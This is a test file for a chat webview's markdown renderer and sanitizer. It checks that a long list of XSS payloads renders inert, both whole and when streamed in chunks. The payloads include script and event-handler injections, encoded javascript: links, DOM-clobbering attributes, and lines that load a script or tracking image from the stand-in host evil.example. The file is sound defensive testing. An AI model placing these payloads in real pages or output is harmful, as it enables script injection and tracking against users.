/**
 * Hostile model output through the markdown path: nothing executable may survive. Each payload is
 * rendered whole and also streamed in small chunks (the streaming renderer renders partial blocks,
 * which must be just as safe).
 */
import '../../dom';
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { renderMarkdown } from '../../../../../webview-ui/chat/markdown/renderMarkdown';
import { StreamingMarkdown } from '../../../../../webview-ui/chat/streamingMarkdown';
import { decorateCodeBlocks } from '../../../../../webview-ui/chat/codeBlockActions';
import { ManualFrames } from '../../dom';

const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click]( javascript:alert(1))',
  '[click](%6A%61%76%61%73%63%72%69%70%74:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](<javascript:alert(1)>)',
  '[click][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![img](javascript:alert(1))',
  '![img](x" onerror="alert(1))',
  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://evil.example/track.png)',
  '[![img](x)](javascript:alert(1))',
  '[a](https://example.com "title\\" onmouseover=\\"alert(1))',
  '**<img src=x onerror=alert(1)>**',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```ts title="x\\" onclick=\\"alert(1)"\ncode\n```',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<a href="https://ok.example" class="code-toolbar message-actions" data-kind="location" data-path="/etc/passwd">spoof</a>',
  '<span class="hljs-keyword codicon" id="root" name="root">clobber</span>',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '> <script>alert(1)</script>\n> [x](javascript:alert(1))',
  '- [ ] <img src=x onerror=alert(1)>\n- [x] done',
  '<a href="javascript:alert(1)"',
  '<img src=x onerror=alert(1)',
  '[unterminated](javascript:alert(1)',
  '```\nunterminated fence <script>alert(1)</script>',
  '>'.repeat(5000) + ' deep',
  '- '.repeat(3000) + 'deep list',
  '*'.repeat(20000),
  '['.repeat(10000) + 'x' + ']('.repeat(10000),
  '<div>'.repeat(5000) + '<img src=x onerror=alert(1)>',
];

const URL_ATTRS = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'background', 'poster'];
const FORBIDDEN_TAGS = 'script, style, iframe, object, embed, form, input, svg, math, template, link, meta, base, frame, frameset, video, audio, source, body, details';

function assertInert(root: Element, payload: string): void {
  const label = JSON.stringify(payload.slice(0, 80));
  assert.equal(root.querySelectorAll(FORBIDDEN_TAGS).length, 0, `forbidden element survived ${label}: ${root.innerHTML.slice(0, 300)}`);
  for (const el of Array.from(root.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      assert.ok(!name.startsWith('on'), `event handler ${name} survived ${label}`);
      assert.notEqual(name, 'style', `inline style survived ${label}`);
      assert.notEqual(name, 'id', `id (DOM clobbering) survived ${label}`);
      assert.notEqual(name, 'name', `name (DOM clobbering) survived ${label}`);
      if (URL_ATTRS.includes(name)) {
        const v = attr.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        assert.ok(!/^(javascript|vbscript|data:text|data:image\/svg)/.test(v) && !v.startsWith('data:') || /^data:image\/(png|gif|jpe?g|webp);base64,/.test(v), `unsafe ${name}=${attr.value} survived ${label}`);
      }
    }
    if (el.tagName === 'A') {
      assert.equal(el.getAttribute('href'), null, `a link kept an href (would navigate) for ${label}`);
      const kind = el.getAttribute('data-kind');
      if (kind === 'external') assert.match(el.getAttribute('data-url') ?? '', /^(https?|mailto):/, `bad external url for ${label}`);
      if (kind === 'location') assert.doesNotMatch(el.getAttribute('data-path') ?? '', /^[a-z][a-z0-9+.-]*:/i, `a location with a scheme for ${label}`);
    }
    for (const cls of Array.from(el.classList)) {
      assert.ok(/^(hljs|language-|[a-z]+_$|file-ref$|link-disabled$|plain-fallback$|markdown(-final|-tail)?$|list-split$|code-|icon-button$|codicon)/.test(cls), `model-chosen class ${cls} survived ${label}`);
    }
  }
}

test('every XSS payload renders inert (whole)', () => {
  for (const payload of PAYLOADS) {
    const div = document.createElement('div');
    div.append(renderMarkdown(payload));
    assertInert(div, payload);
  }
});

test('every XSS payload renders inert while streamed in small chunks', () => {
  for (const payload of PAYLOADS.slice(0, -5)) {
    const frames = new ManualFrames();
    const md = new StreamingMarkdown(frames.schedule, decorateCodeBlocks);
    for (let i = 0; i < payload.length; i += 7) {
      md.append(payload.slice(i, i + 7));
      frames.run();
      assertInert(md.element, payload);
    }
    md.finish();
    assertInert(md.element, payload);
  }
});

test('raw HTML in an answer is shown as text, not interpreted', () => {
  const div = document.createElement('div');
  div.append(renderMarkdown('Use <b>bold</b> and <script>alert(1)</script> here'));
  assert.equal(div.querySelector('b'), null);
  assert.match(div.textContent ?? '', /<script>alert\(1\)<\/script>/);
});

test('safe markdown keeps its formatting, safe links become message links', () => {
  const div = document.createElement('div');
  div.append(renderMarkdown('# T\n\n**b** _i_ [docs](https://example.com/a) [file](src/user.ts#L12) ![dot](data:image/png;base64,iVBORw0KGgo=)\n\n- one\n- two'));
  assert.ok(div.querySelector('h1') && div.querySelector('strong') && div.querySelector('em') && div.querySelectorAll('li').length === 2);
  const [ext, loc] = Array.from(div.querySelectorAll('a'));
  assert.equal(ext.getAttribute('data-kind'), 'external');
  assert.equal(ext.getAttribute('data-url'), 'https://example.com/a');
  assert.equal(loc.getAttribute('data-path'), 'src/user.ts');
  assert.equal(loc.getAttribute('data-line'), '12');
  assert.ok(div.querySelector('img[src^="data:image/png"]'), 'a raster data: image is kept');
});

test('enormous and broken markdown renders without throwing', () => {
  const huge = `${'word '.repeat(40_000)}\n\n${'```\n'.repeat(2000)}${'| a '.repeat(5000)}|\n`;
  const div = document.createElement('div');
  div.append(renderMarkdown(huge));
  assert.ok((div.textContent ?? '').length > 100_000);
});

test('the sanitizer alone (without the markdown escaping of raw HTML) leaves every payload inert', async () => {
  const { sanitizeToFragment } = await import('../../../../../webview-ui/chat/markdown/sanitize');
  // The 5,000-deep <div> nest overflows jsdom's own recursive parser (not a browser's); it is covered above.
  for (const payload of PAYLOADS.filter((p) => !p.startsWith('<div><div>'))) {
    const div = document.createElement('div');
    div.append(sanitizeToFragment(payload));
    assertInert(div, payload);
  }
});
